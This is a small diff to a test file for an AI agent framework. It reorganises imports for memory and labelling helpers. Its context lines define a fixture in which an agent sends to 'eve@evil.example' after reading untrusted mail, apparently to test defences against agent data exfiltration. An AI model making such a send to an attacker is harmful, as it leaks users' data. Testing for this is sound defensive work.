@@ -7,8 +7,8 @@ from typing import Any
 import pytest
 
 from forge import Agent, Label, Memory, Message, Scripted, ToolCall, memory_tools, rules, tool
-from forge.memory.entry_labels import find_entry_labels, mark_entry
-from forge.memory.sessions import remember_session
+from forge.memory.memory import remember_session
+from forge.memory.notes import find_entry_labels, mark_entry
 
 TO_EVE = ToolCall("send", {"to": "eve@evil.example"})
 SHOP = Label("untrusted", "read_mail")
